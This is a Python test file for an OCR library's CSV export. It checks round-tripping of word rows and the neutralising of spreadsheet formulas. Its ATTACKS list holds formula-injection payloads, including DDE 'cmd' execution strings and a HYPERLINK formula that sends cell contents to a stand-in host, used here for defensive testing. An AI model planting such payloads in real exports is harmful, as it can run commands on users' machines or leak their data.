"""CSV: a row for each word, read back by csv, with nothing that a spreadsheet would run."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ferrocr import Line, Page
from ferrocr.formats import Sheet, chunks
from ferrocr.formats.csv import marked, unmarked
from ferrocr.formats.tsv import cell
from format_pages import BLANK, PLAIN, UP, line_of, sheets, words_in

HEADER = ["source", "page", "block", "line", "word", "text", "score", "doubtful", "left", "top", "right", "bottom"]

ATTACKS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;2)",
    '=HYPERLINK("https://a.example/?x="&A1,"total")',
    " =1+1",
    "\t=1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    "total;=1+1",
    'total;"=1+1',
    "-A1",
    "+1:9",
    "-5;=1",
    "+SUM(1)",
    "\u20281;@x",
)
"""Texts that some spreadsheet takes for a formula."""

HARMLESS = (
    "-5.00",
    "+49 170 1234567",
    "-12%",
    "-",
    "--",
    "-1,234.50",
    "a-b",
    "1=1",
    "x;y",
    "5 -3",
    "a@b.example",
    "'s",
)
"""Texts that compute nothing, and stay as they are."""


def rows_of(text: str) -> list[dict[str, str]]:
    """The rows as any reader of RFC 4180 gets them."""
    reader = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    rows = list(reader)
    assert reader.fieldnames == HEADER
    assert all(None not in row and None not in row.values() for row in rows), "every row has every column"
    return rows


def is_formula(text: str) -> bool:
    """Some spreadsheet would take a cell, or what it takes for one behind a semicolon, for a formula."""
    return any(re.match(r"[\s\"\u200b]*[=+\-@\uff0b\uff0d\uff1d\uff20]", part) for part in text.split(";"))


def test_a_page_looks_like_this() -> None:
    assert "".join(chunks("csv", [Sheet(PLAIN, "a, b.png", 3)])).split("\r\n") == [
        ",".join(HEADER),
        '"a, b.png",3,1,1,1,Iron,0.975,false,20,10,60,30',
        '"a, b.png",3,1,1,2,tastes,0.975,false,70,10,130,30',
        '"a, b.png",3,1,2,1,of,0.5,false,20,40,40,60',
        '"a, b.png",3,1,2,2,rain,0.5,false,50,40,90,60',
        '"a, b.png",3,2,3,1,4711,1,false,200,80,240,100',
        "",
    ]


def test_pages_follow_each_other_under_one_head() -> None:
    rows = rows_of("".join(chunks("csv", [Sheet(PLAIN, "a", 1), Sheet(BLANK, "b", 1), Sheet(UP, "b", 2)])))
    assert [(row["source"], row["page"]) for row in rows] == [("a", "1")] * 5 + [("b", "2")] * 2


@given(sheets)
def test_any_page_is_read_back_by_csv(sheet: Sheet) -> None:
    rows = rows_of("".join(chunks("csv", [sheet])))
    assert [unmarked(row["text"]) for row in rows] == [cell(text) for text in words_in(sheet.page)]
    assert {unmarked(row["source"]) for row in rows} <= {cell(sheet.source or "")}
    lines = [int(row["line"]) for row in rows]
    assert sorted(set(lines)) == list(range(1, len(sheet.page.lines) + 1))
    assert lines == sorted(lines)
    for row in rows:
        assert float(row["left"]) <= float(row["right"])
        assert float(row["top"]) <= float(row["bottom"])
        assert 0 <= float(row["score"]) <= 1


@given(st.text(st.sampled_from("=+-@;\"' ,1a.\u200b\uff1d")) | st.text())
@example("'-5")
@example("'';'=")
def test_a_mark_is_taken_off_again(text: str) -> None:
    assert unmarked(marked(text)) == text
    assert not is_formula(marked(text)) or re.fullmatch("-+|[+-][0-9.,/ ]*[0-9]%?", text)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_is_marked(text: str) -> None:
    (row,) = rows_of("".join(chunks("csv", [Sheet(Page(400, 40, (line_of("x", 0, 0),)), text)])))
    assert not is_formula(row["source"])
    line = Line(text, 0.9, line_of("x", 0, 0).quad, ())
    (row,) = rows_of(Page(400, 40, (line,)).to("csv"))
    assert not is_formula(row["text"])
    assert unmarked(row["text"]) == cell(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_computes_nothing_stays_as_it_is(text: str) -> None:
    assert marked(text) == text


def test_programs_read_it_with_types() -> None:
    pandas = pytest.importorskip("pandas")
    table = pandas.read_csv(io.StringIO(PLAIN.to("csv")))
    assert table["doubtful"].dtype == bool
    assert table["score"].tolist() == [0.975, 0.975, 0.5, 0.5, 1.0]
    assert table["right"].tolist() == [60, 130, 40, 90, 240]
